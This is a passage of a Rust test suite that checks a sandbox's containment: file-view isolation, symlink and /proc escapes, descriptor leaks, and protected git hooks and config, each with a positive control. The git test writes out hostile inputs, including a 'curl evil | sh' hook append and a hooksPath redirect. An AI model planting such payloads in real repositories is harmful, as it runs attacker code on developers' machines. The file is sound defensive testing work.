//! Containment, driven through `sidejob exec` (no daemon): the probe tries each escape from
//! inside the sandbox and reports; every denial has a positive control (the same operation
//! where it is allowed, or outside the sandbox) and checks the host-side effect.
//!
//! These need root (the sandbox's mount view, cgroups and uid changes); they skip, listed in
//! the run's summary, where root is not declared (see `sidejob_tests::need`), and fail where it
//! is.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use sidejob_tests::{sidejob_bin, skip_without, Need, TempDir};

/// The probe binary built next to `sidejob`.
pub fn probe_bin() -> PathBuf {
    sidejob_bin()
        .parent()
        .expect("target dir")
        .join("sidejob-probe")
}

/// A workspace with the probe copied in (the host's build tree is not in the view).
pub struct Ws {
    pub dir: TempDir,
    /// Outside the workspace, for host-side files the sandbox must not see.
    pub outside: TempDir,
}

impl Ws {
    pub fn new() -> Option<Ws> {
        // The sandbox's mount view, cgroups and uid changes need root.
        if skip_without(&[Need::Root]) {
            return None;
        }
        let dir = TempDir::new("ws");
        std::fs::copy(probe_bin(), dir.path().join("probe")).expect("copy probe");
        Some(Ws {
            dir,
            outside: TempDir::new("outside"),
        })
    }

    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    pub fn probe(&self) -> String {
        self.path().join("probe").display().to_string()
    }

    /// Writes a profile file next to (not inside) the workspace.
    pub fn profile(&self, name: &str, body: &str) -> String {
        let p = self.outside.path().join(format!("{name}.toml"));
        std::fs::write(&p, body).expect("profile");
        p.display().to_string()
    }
}

/// A profile like workspace-write with extra TOML lines at the top level and in `[limits]`.
pub fn profile_with(top: &str, limits: &str) -> String {
    format!(
        r#"{top}
[paths]
readable = ["/usr", "/bin", "/lib", "/lib64", "/etc/ld.so.cache", "/etc/passwd", "/etc/group"]
executable = ["/usr", "/bin", "/lib", "/lib64", "{{workspace}}", "{{tmp}}"]
writable = ["{{workspace}}", "{{tmp}}"]
protected = [".git/hooks", ".git/config"]
[limits]
{limits}
[env]
allow = ["TERM"]
[env.set]
PATH = "/usr/bin:/bin"
HOME = "{{workspace}}"
"#
    )
}

pub struct Out {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl From<std::process::Output> for Out {
    fn from(o: std::process::Output) -> Out {
        Out {
            code: o.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }
}

impl Out {
    /// The probe's JSON report: the first line that parses of the command's output (on
    /// stdout, or on stderr under `--json`, whose stdout holds the result alone).
    pub fn report(&self) -> Value {
        self.stdout
            .lines()
            .chain(self.stderr.lines())
            .find_map(|l| {
                serde_json::from_str::<Value>(l)
                    .ok()
                    .filter(|v| v.get("op").is_some())
            })
            .unwrap_or_else(|| {
                panic!(
                    "no probe report; code {} stdout {:?} stderr {:?}",
                    self.code, self.stdout, self.stderr
                )
            })
    }

    pub fn errno(&self) -> i64 {
        self.report()["errno"].as_i64().unwrap_or(0)
    }

    pub fn ok(&self) -> bool {
        self.report()["ok"] == true
    }

    /// The `--json` result: all of stdout (the command's output went to stderr).
    pub fn result(&self) -> Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("stdout is not the result alone ({e}): {:?}", self.stdout))
    }
}

/// Runs `sidejob exec [extra] -- cmd` in the workspace.
pub fn exec(ws: &Ws, extra: &[&str], cmd: &[&str]) -> Out {
    exec_env(ws, extra, cmd, &[])
}

/// The command line of `sidejob exec [extra] -- cmd` in the workspace, stdin from /dev/null.
pub fn exec_command(ws: &Ws, extra: &[&str], cmd: &[&str]) -> Command {
    let mut c = Command::new(sidejob_bin());
    c.arg("exec")
        .arg("--workspace")
        .arg(ws.path())
        .args(extra)
        .arg("--")
        .args(cmd);
    c.current_dir(ws.path()).stdin(Stdio::null());
    c
}

pub fn exec_env(ws: &Ws, extra: &[&str], cmd: &[&str], env: &[(&str, &str)]) -> Out {
    let mut c = exec_command(ws, extra, cmd);
    for (k, v) in env {
        c.env(k, v);
    }
    let o = c.output().expect("run sidejob exec");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

/// Runs the probe inside the sandbox.
pub fn inside(ws: &Ws, args: &[&str]) -> Out {
    let probe = ws.probe();
    let mut cmd = vec![probe.as_str()];
    cmd.extend_from_slice(args);
    exec(ws, &[], &cmd)
}

/// Runs the probe on the host, unconfined: the positive control.
pub fn outside(args: &[&str]) -> Out {
    let o = Command::new(probe_bin())
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("run probe");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

pub fn secret_file(ws: &Ws) -> PathBuf {
    let p = ws.outside.path().join("secret.txt");
    std::fs::write(&p, "TOP-SECRET").expect("secret");
    p
}

// ---- start-up --------------------------------------------------------------------------------

/// `sidejob` starts without the Rust runtime's set-up (its own C `main`), so it must itself
/// fill a closed descriptor 0, 1 or 2 before it opens anything: otherwise the namespace or
/// pipe it opens next lands there, and is swapped for the command's stdin or output.
#[test]
fn exec_started_with_its_standard_descriptors_closed_still_runs_the_command() {
    let Some(ws) = Ws::new() else { return };
    for closed in ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"] {
        let o = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "exec {closed}; exec \"$0\" exec --workspace \"$1\" -- sh -c 'echo out; echo err >&2; exit 3'"
            ))
            .arg(sidejob_bin())
            .arg(ws.path())
            .output()
            .expect("run sh");
        let (stdout, stderr) = (
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr),
        );
        assert_eq!(o.status.code(), Some(3), "{closed}: {stdout}{stderr}");
        // The run's stdout goes to stdout and its stderr to stderr (two different files
        // here), each if it is open; sidejob itself has nothing to say.
        let out_open = !closed.contains(" >&-") && !closed.starts_with(">&-");
        let err_open = !closed.contains("2>&-");
        assert_eq!(
            stdout,
            if out_open { "out\n" } else { "" },
            "{closed}: {stderr}"
        );
        assert_eq!(
            stderr,
            if err_open { "err\n" } else { "" },
            "{closed}: {stdout}"
        );
    }
}

/// The reader of `exec`'s output goes away mid-run (`| true`): the next write is an error
/// (`SIGPIPE` is ignored, as the Rust runtime would have set it), the run goes on, and the
/// command's own exit status comes through. Killed by `SIGPIPE`, `exec` would leave the run
/// unreported and its run directory behind.
#[test]
fn exec_whose_output_reader_goes_away_still_reports_the_commands_exit() {
    let Some(ws) = Ws::new() else { return };
    // With --json too: the result printed at the end finds the pipe closed as well.
    for json in ["", "--json"] {
        let o = Command::new("bash")
            .arg("-c")
            .arg("\"$0\" exec --workspace \"$1\" $2 -- sh -c 'sleep 0.3; echo gone; exit 4' | true; echo ${PIPESTATUS[0]}")
            .arg(sidejob_bin())
            .arg(ws.path())
            .arg(json)
            .output()
            .expect("run bash");
        let stdout = String::from_utf8_lossy(&o.stdout);
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert_eq!(stdout.trim(), "4", "{json}: {stderr}");
        assert!(!stderr.contains("panicked"), "{json}: {stderr}");
    }
}

// ---- filesystem ------------------------------------------------------------------------------

/// A root run looks at every file of its writable workspace for set-id bits before it
/// starts; files and directories another process removes meanwhile (a build in another run,
/// `rm -rf target` on the host) are gone, not a reason to refuse the start. Seen as a flaky
/// `sandbox_error` in the suite when a test removed a directory while a run started.
#[test]
fn a_root_run_starts_while_files_of_its_workspace_come_and_go() {
    let Some(ws) = Ws::new() else { return };
    let churn = ws.path().join("churn");
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let rounds = std::sync::Arc::new(AtomicU64::new(0));
    let churner = {
        let (stop, rounds, churn) = (stop.clone(), rounds.clone(), churn.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let n = rounds.fetch_add(1, Ordering::Relaxed) + 1;
                // Directories of files made and removed whole, as a build tree is.
                let d = churn.join(format!("d{}", n % 8));
                let _ = std::fs::remove_dir_all(&d);
                std::fs::create_dir_all(&d).expect("mkdir");
                for f in 0..20 {
                    std::fs::write(d.join(format!("f{f}")), "x").expect("write");
                }
            }
        })
    };
    // At least 40 starts, and as many more as it takes for the tree to change 100 times
    // while they start (a filesystem slow to allocate inodes churns slowly).
    let mut failures = Vec::new();
    let mut runs = 0;
    while runs < 40 || (rounds.load(Ordering::Relaxed) <= 100 && runs < 400) {
        runs += 1;
        let out = exec(&ws, &[], &["/bin/true"]);
        if out.code != 0 {
            failures.push(format!("{} {:?}", out.code, out.stderr));
        }
    }
    stop.store(true, Ordering::Relaxed);
    churner.join().expect("churner");
    let rounds = rounds.load(Ordering::Relaxed);
    assert!(rounds > 100, "the tree changed only {rounds} times");
    assert!(
        failures.is_empty(),
        "{} of {runs} runs failed: {failures:?}",
        failures.len()
    );
}

/// A file a profile lists that is replaced (renamed over, as `useradd` does to /etc/passwd)
/// while runs start: each run sees the file as it is, none fails to bind the old one.
#[test]
fn a_listed_file_renamed_over_while_runs_start_is_bound_as_it_is_now() {
    let Some(ws) = Ws::new() else { return };
    let listed = ws.outside.path().join("listed.txt");
    std::fs::write(&listed, "v0\n").expect("write");
    let body = profile_with("", "").replacen(
        "\"/etc/group\"]",
        &format!("\"/etc/group\", \"{}\"]", listed.display()),
        1,
    );
    let profile = ws.profile("listed", &body);
    let renamer = RenamedOver::start(&listed);
    let mut failures = Vec::new();
    for _ in 0..40 {
        let out = exec(
            &ws,
            &["--profile", &profile],
            &["/bin/cat", listed.to_str().unwrap()],
        );
        if out.code != 0 || !out.stdout.starts_with('v') {
            failures.push(format!("{} {:?} {:?}", out.code, out.stdout, out.stderr));
        }
    }
    renamer.stop();
    assert!(
        failures.is_empty(),
        "{} of 40 runs failed: {failures:?}",
        failures.len()
    );
}

/// A file renamed over again and again (a fresh one written beside it each time, as
/// `useradd` replaces /etc/passwd) until [`RenamedOver::stop`].
pub struct RenamedOver {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: std::thread::JoinHandle<u64>,
}

impl RenamedOver {
    pub fn start(file: &Path) -> RenamedOver {
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (flag, file) = (stop.clone(), file.to_path_buf());
        let fresh = file.with_extension("fresh");
        let thread = std::thread::spawn(move || {
            let mut n = 0u64;
            while !flag.load(std::sync::atomic::Ordering::Relaxed) {
                n += 1;
                std::fs::write(&fresh, format!("v{n}\n")).expect("write");
                std::fs::rename(&fresh, &file).expect("rename");
                // Often, as files on a busy host go, but not back to back.
                std::thread::sleep(std::time::Duration::from_micros(500));
            }
            n
        });
        RenamedOver { stop, thread }
    }

    /// Stops, checking the file was renamed over often enough to matter.
    pub fn stop(self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let renames = self.thread.join().expect("renamer");
        assert!(
            renames > 100,
            "the file was renamed over only {renames} times"
        );
    }
}

#[test]
fn a_file_outside_the_allowed_roots_is_not_readable() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    let out = inside(&ws, &["read", secret.to_str().unwrap()]);
    assert!(!out.ok(), "{}", out.stdout);
    assert_eq!(
        out.errno(),
        libc::ENOENT as i64,
        "not even in the view: {}",
        out.stdout
    );
    assert!(!out.stdout.contains("TOP-SECRET"));
    // Controls: a workspace file reads inside; the secret reads outside.
    std::fs::write(ws.path().join("mine.txt"), "MINE").unwrap();
    let mine = inside(&ws, &["read", ws.path().join("mine.txt").to_str().unwrap()]);
    assert!(
        mine.ok() && mine.report()["detail"] == "MINE",
        "{}",
        mine.stdout
    );
    assert!(outside(&["read", secret.to_str().unwrap()]).ok());
}

#[test]
fn home_root_run_and_state_directories_are_not_in_the_view() {
    let Some(ws) = Ws::new() else { return };
    for p in [
        "/root",
        "/home",
        "/run",
        "/var/run",
        "/var/lib",
        "/etc/shadow",
        "/sys",
    ] {
        let out = inside(&ws, &["ls", p]);
        assert_eq!(
            out.errno(),
            libc::ENOENT as i64,
            "{p} is in the view: {}",
            out.stdout
        );
    }
    // The terminal devices are a private devpts instance: no other session's pty is there.
    let pts = inside(&ws, &["ls", "/dev/pts"]);
    assert_eq!(pts.report()["detail"], "ptmx", "{}", pts.stdout);
    // Control: the view does hold what the profile names.
    let usr = inside(&ws, &["ls", "/usr"]);
    assert!(
        usr.ok() && usr.report()["detail"].as_str().unwrap().contains("bin"),
        "{}",
        usr.stdout
    );
    assert!(outside(&["ls", "/root"]).ok());
}

#[test]
fn a_symlink_in_the_workspace_does_not_lead_outside() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    let link = ws.path().join("link");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let out = inside(&ws, &["read", link.to_str().unwrap()]);
    assert!(
        !out.ok() && !out.stdout.contains("TOP-SECRET"),
        "{}",
        out.stdout
    );
    // Writing through it does not reach the host file either.
    let w = inside(&ws, &["write", link.to_str().unwrap(), "overwritten"]);
    assert!(!w.ok(), "{}", w.stdout);
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "TOP-SECRET");
    // Control: the same symlink reads on the host; a symlink to a workspace file reads inside.
    assert!(outside(&["read", link.to_str().unwrap()]).ok());
    std::fs::write(ws.path().join("target.txt"), "T").unwrap();
    std::os::unix::fs::symlink(ws.path().join("target.txt"), ws.path().join("good")).unwrap();
    assert!(inside(&ws, &["read", ws.path().join("good").to_str().unwrap()]).ok());
}

#[test]
fn proc_pid_root_does_not_lead_to_the_host() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    for pid in ["1", "self"] {
        let via = format!("/proc/{pid}/root{}", secret.display());
        let out = inside(&ws, &["read", &via]);
        assert!(
            !out.ok() && !out.stdout.contains("TOP-SECRET"),
            "{via}: {}",
            out.stdout
        );
    }
    // The run's init is not dumpable: its /proc entries are closed to the command.
    let init_root = inside(&ws, &["ls", "/proc/1/root/"]);
    assert!(!init_root.ok(), "{}", init_root.stdout);
    // Control: /proc/self/root of the command is its own view and works.
    std::fs::write(ws.path().join("mine.txt"), "MINE").unwrap();
    let own = format!("/proc/self/root{}", ws.path().join("mine.txt").display());
    assert!(inside(&ws, &["read", &own]).ok());
    // And on the host /proc/self/root reaches the secret.
    assert!(outside(&["read", &format!("/proc/self/root{}", secret.display())]).ok());
}

/// The mounts of a mount namespace, as a process at its root sees them (`setns` puts it
/// there): "mount-point fs-type" per mount. A child joins the namespace and reads its own
/// `mountinfo` through its `/proc` entry, opened before: the namespace may have no `/proc`,
/// nor any program at its root to run (a daemon's run's is bare, see
/// [`assert_holds_only_the_view`]).
pub fn mounts_of_namespace(pid: i32) -> Vec<String> {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let ns = std::fs::File::open(format!("/proc/{pid}/ns/mnt")).expect("open the namespace");
    let ns_fd = ns.as_raw_fd();
    let mut c = Command::new("/bin/true");
    c.stdin(Stdio::null()).stdout(Stdio::piped());
    // SAFETY: between the fork and its exit the child makes system calls on its own stack
    // only, and never returns to code that could allocate.
    unsafe {
        c.pre_exec(move || {
            let own = libc::open(c"/proc/self".as_ptr(), libc::O_PATH | libc::O_DIRECTORY);
            if own < 0 || libc::setns(ns_fd, libc::CLONE_NEWNS) != 0 || libc::fchdir(own) != 0 {
                libc::_exit(2);
            }
            let f = libc::open(c"mountinfo".as_ptr(), libc::O_RDONLY);
            if f < 0 {
                libc::_exit(3);
            }
            let mut buf = [0u8; 4096];
            loop {
                let n = libc::read(f, buf.as_mut_ptr().cast(), buf.len());
                if n <= 0 {
                    libc::_exit(if n == 0 { 0 } else { 4 });
                }
                if libc::write(1, buf.as_ptr().cast(), n as usize) != n {
                    libc::_exit(5);
                }
            }
        });
    }
    let out = c.output().expect("read the namespace's mounts");
    drop(ns);
    assert!(
        out.status.success(),
        "reading the namespace's mounts: {:?}",
        out.status
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let fields: Vec<&str> = l.split(' ').collect();
            let dash = fields.iter().position(|f| *f == "-")?;
            Some(format!("{} {}", fields.get(4)?, fields.get(dash + 1)?))
        })
        .collect()
}

/// A mount ("mount-point fs-type") of the host's that no run's namespace may hold: sysfs, a
/// cgroup file system, devtmpfs at `/dev` (the view binds single device nodes from it, on a
/// tmpfs at `/dev`), or anything but a tmpfs at `/`.
pub fn host_only(m: &str) -> bool {
    let (point, fs) = m.split_once(' ').unwrap_or_default();
    matches!(fs, "sysfs" | "cgroup" | "cgroup2")
        || (point == "/dev" && fs == "devtmpfs")
        || (point == "/" && !matches!(fs, "tmpfs" | "rootfs"))
}

/// The pid of the run's `sleep {pause}` (see `unique_sleep`), once it runs.
pub fn sleeper(pause: &str) -> i32 {
    let cmdline = format!("sleep {pause}");
    let mut found = None;
    sidejob_tests::wait_until(std::time::Duration::from_secs(5), || {
        found = sidejob_tests::pids_running(&cmdline).first().copied();
        found.is_some()
    });
    found.unwrap_or_else(|| panic!("the run's {cmdline} never started"))
}

/// Checks that a run's mount namespace (see [`mounts_of_namespace`]) holds the view (its
/// `/usr`) and none of the host's own mounts (see [`host_only`]). A daemon's run has its view
/// at `/view` of a bare namespace (an empty tmpfs at `/` and nothing else outside the view);
/// `sidejob exec`'s is the namespace's root.
pub fn assert_holds_only_the_view(mounts: &[String]) {
    let bare = mounts.iter().any(|m| m.starts_with("/view "));
    let view: Vec<String> = if bare {
        let outside: Vec<&String> = mounts
            .iter()
            .filter(|m| !m.starts_with("/view") && !m.starts_with("/ "))
            .collect();
        assert!(
            outside.is_empty(),
            "mounts outside the view in a bare namespace: {outside:?}\nall: {mounts:?}"
        );
        assert!(mounts.contains(&"/ tmpfs".to_owned()), "{mounts:?}");
        mounts
            .iter()
            .filter_map(|m| m.strip_prefix("/view"))
            .map(|m| match m.strip_prefix(' ') {
                Some(fs) => format!("/ {fs}"),
                None => m.to_owned(),
            })
            .collect()
    } else {
        mounts.to_vec()
    };
    assert!(view.iter().any(|m| m.starts_with("/usr ")), "{mounts:?}");
    let leaked: Vec<&String> = view.iter().filter(|m| host_only(m)).collect();
    assert!(
        leaked.is_empty(),
        "host mounts in the run's namespace: {leaked:?}\nall: {mounts:?}"
    );
}

/// The host's tree is detached from the run's mount namespace, not just out of sight: a
/// process entering that namespace at its root (as `setns` puts it) finds the view's mounts
/// and nothing of the host's (its sysfs and cgroup mounts, its devtmpfs at `/dev`, its root
/// file system at `/`).
#[test]
fn the_hosts_tree_is_detached_from_the_runs_mount_namespace() {
    let Some(ws) = Ws::new() else { return };
    // Control: the host's own namespace, seen the same way, has them.
    let host = mounts_of_namespace(std::process::id() as i32);
    assert!(host.iter().any(|m| host_only(m)), "{host:?}");

    let pause = sidejob_tests::unique_sleep();
    let mut run = Command::new(sidejob_bin())
        .args(["exec", "--workspace"])
        .arg(ws.path())
        .args(["--", "sleep", &pause])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .expect("start sidejob exec");
    let sleeper = sleeper(&pause);
    let mounts = mounts_of_namespace(sleeper);
    let _ = run.kill();
    let _ = run.wait();
    assert_holds_only_the_view(&mounts);
}

#[test]
fn no_inherited_descriptor_reaches_the_command() {
    let Some(ws) = Ws::new() else { return };
    let secret = secret_file(&ws);
    // Leak a descriptor of the secret into `sidejob exec` (clear close-on-exec), at fd 9.
    let f = std::fs::File::open(&secret).unwrap();
    use std::os::fd::AsRawFd;
    let raw = f.as_raw_fd();
    let mut c = Command::new(sidejob_bin());
    c.args(["exec", "--workspace"])
        .arg(ws.path())
        .arg("--")
        .arg(ws.probe());
    let mut c2 = Command::new(sidejob_bin());
    c2.args(["exec", "--workspace"])
        .arg(ws.path())
        .arg("--")
        .arg(ws.probe())
        .args(["read", "/proc/self/fd/9"]);
    for cmd in [&mut c, &mut c2] {
        // SAFETY: dup2 in the child between fork and exec only touches descriptors.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(cmd, move || {
                if libc::dup2(raw, 9) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        cmd.stdin(Stdio::null());
    }
    c.arg("fds");
    // The probe must have run and listed its descriptors: a run that never started lists
    // nothing and would leak nothing.
    let fds = Out::from(c.output().unwrap());
    let listed = fds.report();
    assert_eq!(listed["op"], "fds", "{}", fds.stdout);
    assert_eq!(listed["ok"], true, "{}", fds.stdout);
    let listed = listed["detail"].as_str().unwrap();
    assert!(
        listed.split(' ').any(|fd| fd.starts_with("0=")) && listed.contains("1="),
        "the probe sees its own stdin and stdout: {listed}"
    );
    assert!(!listed.contains("secret"), "leaked: {listed}");
    assert!(
        !listed.split(' ').any(|fd| fd.starts_with("9=")),
        "fd 9 crossed: {listed}"
    );
    // Reading the descriptor by number fails inside, and the probe says so.
    let read = Out::from(c2.output().unwrap());
    assert_eq!(read.report()["op"], "read", "{}", read.stdout);
    assert!(!read.ok(), "fd 9 was readable inside: {}", read.stdout);
    assert!(!read.stdout.contains("TOP-SECRET"), "{}", read.stdout);
    // Control: outside the sandbox the leaked descriptor reads the secret.
    let mut ctl = Command::new(probe_bin());
    ctl.args(["read", "/proc/self/fd/9"]);
    // SAFETY: as above.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut ctl, move || {
            if libc::dup2(raw, 9) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let ctl = Out::from(ctl.output().unwrap());
    assert!(ctl.ok(), "{}", ctl.stdout);
    assert_eq!(ctl.report()["detail"], "TOP-SECRET", "{}", ctl.stdout);
    drop(f);
}

#[test]
fn writing_outside_the_workspace_fails_and_the_host_is_unchanged() {
    let Some(ws) = Ws::new() else { return };
    let target = ws.outside.path().join("planted");
    let out = inside(&ws, &["write", target.to_str().unwrap(), "x"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert!(!target.exists());
    let etc = inside(&ws, &["write", "/etc/planted", "x"]);
    assert!(!etc.ok(), "{}", etc.stdout);
    assert!(!Path::new("/etc/planted").exists());
    let usr = inside(&ws, &["write", "/usr/bin/planted", "x"]);
    assert!(!usr.ok());
    assert!(!Path::new("/usr/bin/planted").exists());
    // Control: the workspace is writable and the write lands on the host.
    let ok = inside(
        &ws,
        &["write", ws.path().join("made").to_str().unwrap(), "hello"],
    );
    assert!(ok.ok(), "{}", ok.stdout);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("made")).unwrap(),
        "hello"
    );
}

#[test]
fn the_private_tmp_is_private_and_gone_after_the_run() {
    let Some(ws) = Ws::new() else { return };
    let out = inside(&ws, &["write", "/tmp/sidejob-private-probe", "x"]);
    assert!(out.ok(), "control: /tmp is writable inside: {}", out.stdout);
    assert!(
        !Path::new("/tmp/sidejob-private-probe").exists(),
        "it landed in the host's /tmp"
    );
    let later = inside(&ws, &["read", "/tmp/sidejob-private-probe"]);
    assert!(!later.ok(), "a later run sees it: {}", later.stdout);
}

#[test]
fn writing_proc_sys_is_refused() {
    let Some(ws) = Ws::new() else { return };
    let before = std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap();
    let out = inside(&ws, &["write", "/proc/sys/kernel/domainname", "escaped"]);
    assert!(!out.ok(), "{}", out.stdout);
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap(),
        before
    );
    let trigger = inside(&ws, &["write", "/proc/sysrq-trigger", "h"]);
    assert!(!trigger.ok(), "{}", trigger.stdout);
    // Control: reading it works inside.
    assert!(inside(&ws, &["read", "/proc/sys/kernel/domainname"]).ok());
}

// ---- protected paths -------------------------------------------------------------------------

pub fn git_ws(ws: &Ws) {
    let git = ws.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(git.join("description"), "repo\n").unwrap();
}

#[test]
fn protected_git_paths_stay_read_only_directly_and_through_rename_and_link() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let g = |p: &str| ws.path().join(".git").join(p).display().to_string();
    let tries: Vec<Vec<String>> = vec![
        vec![
            "write".into(),
            g("config"),
            "[core]\nhooksPath=/evil\n".into(),
        ],
        vec![
            "append".into(),
            g("hooks/pre-commit"),
            "curl evil | sh\n".into(),
        ],
        vec!["write".into(), g("hooks/post-checkout"), "evil".into()],
        vec!["remove".into(), g("config")],
        vec!["rename".into(), g("config"), g("config.moved")],
        vec!["rename".into(), g("hooks"), g("hooks.moved")],
        vec![
            "rename".into(),
            ws.path().join(".git").display().to_string(),
            ws.path().join("git.moved").display().to_string(),
        ],
        vec![
            "link".into(),
            g("config"),
            ws.path().join("config.link").display().to_string(),
        ],
    ];
    for t in &tries {
        let args: Vec<&str> = t.iter().map(String::as_str).collect();
        let out = inside(&ws, &args);
        assert!(!out.ok(), "{args:?} succeeded: {}", out.stdout);
    }
    assert_eq!(std::fs::read_to_string(g("config")).unwrap(), "[core]\n");
    assert_eq!(
        std::fs::read_to_string(g("hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(!Path::new(&g("hooks/post-checkout")).exists());
    assert!(!ws.path().join("git.moved").exists() && !ws.path().join("config.link").exists());
    // Control: the rest of .git is writable.
    let ok = inside(&ws, &["write", &g("description"), "changed\n"]);
    assert!(ok.ok(), "{}", ok.stdout);
    assert_eq!(
        std::fs::read_to_string(g("description")).unwrap(),
        "changed\n"
    );
}

#[test]
fn a_symlink_swapped_in_for_a_protected_path_is_refused() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let config = ws.path().join(".git/config");
    std::fs::remove_file(&config).unwrap();
    std::fs::write(ws.path().join("evil-config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(ws.path().join("evil-config"), &config).unwrap();
    let out = exec(
        &ws,
        &[],
        &[
            &ws.probe(),
            "write",
            ws.path().join("evil-config").to_str().unwrap(),
            "x",
        ],
    );
    assert_eq!(
        out.code, 125,
        "refused before the command ran: {} {}",
        out.stdout, out.stderr
    );
    assert!(out.stderr.contains("protect"), "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("evil-config")).unwrap(),
        "[core]\n"
    );
    // Control: with the real file back, the run goes ahead.
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, "[core]\n").unwrap();
    assert!(inside(&ws, &["read", config.to_str().unwrap()]).ok());
}

#[test]
fn a_protected_path_reached_through_a_symlink_is_refused() {
    let Some(ws) = Ws::new() else { return };
    let body = profile_with("", "").replace(
        r#"protected = [".git/hooks", ".git/config"]"#,
        r#"protected = ["conf/sub/app.toml"]"#,
    );
    let p = ws.profile("conf", &body);
    // `conf/sub` leads elsewhere in the workspace: the kernel would follow it to a file the
    // profile never named, which would stay writable. (A symlink as the first component is
    // refused earlier, when that directory is pinned.)
    std::fs::create_dir_all(ws.path().join("conf/real")).unwrap();
    let target = ws.path().join("conf/real/app.toml");
    std::fs::write(&target, "safe\n").unwrap();
    std::os::unix::fs::symlink("real", ws.path().join("conf/sub")).unwrap();
    let out = exec(
        &ws,
        &["--profile", &p],
        &[&ws.probe(), "write", target.to_str().unwrap(), "x"],
    );
    assert_eq!(out.code, 125, "{} {}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("passes through a symlink"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "safe\n");
    // Control: with a real directory there, the run goes ahead and the file is read-only.
    std::fs::remove_file(ws.path().join("conf/sub")).unwrap();
    std::fs::rename(ws.path().join("conf/real"), ws.path().join("conf/sub")).unwrap();
    let file = ws.path().join("conf/sub/app.toml");
    let out = exec(
        &ws,
        &["--profile", &p],
        &[&ws.probe(), "write", file.to_str().unwrap(), "x"],
    );
    assert_ne!(out.code, 125, "{} {}", out.stdout, out.stderr);
    assert_ne!(
        out.code, 0,
        "the protected file was writable: {}",
        out.stdout
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "safe\n");
}

#[test]
fn a_hard_link_to_a_protected_file_is_refused() {
    let Some(ws) = Ws::new() else { return };
    git_ws(&ws);
    let alias = ws.path().join("alias");
    std::fs::hard_link(ws.path().join(".git/hooks/pre-commit"), &alias).unwrap();
    let out = exec(
        &ws,
        &[],
        &[&ws.probe(), "append", alias.to_str().unwrap(), "evil"],
    );
    assert_eq!(out.code, 125, "{} {}", out.stdout, out.stderr);
    assert_eq!(
        std::fs::read_to_string(&alias).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    // Control: without the extra link the run goes ahead.
    std::fs::remove_file(&alias).unwrap();
    assert!(inside(
        &ws,
        &[
            "read",
            ws.path().join(".git/hooks/pre-commit").to_str().unwrap()
        ]
    )
    .ok());
}

#[test]
fn a_profile_path_that_is_a_symlink_shows_what_it_names() {
    let Some(ws) = Ws::new() else { return };
    // Like /etc/resolv.conf -> /run/...: the link leads out of the view, so the view holds
    // the file it names, at the link's path; the rest of its directory stays out.
    let dir = ws.outside.path().join("etc");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("real.conf"), "nameserver 192.0.2.1\n").unwrap();
    std::fs::write(dir.join("other"), "other").unwrap();
    let link = ws.outside.path().join("resolv.conf");
    std::os::unix::fs::symlink(dir.join("real.conf"), &link).unwrap();
    let body = profile_with("", "").replace(
        "readable = [",
        &format!("readable = [\"{}\", ", link.display()),
    );
    let p = ws.profile("links", &body);
    let out = exec(
        &ws,
        &["--profile", &p],
        &[&ws.probe(), "read", link.to_str().unwrap()],
    );
    assert_eq!(
        out.report()["detail"],
        "nameserver 192.0.2.1\n",
        "{}",
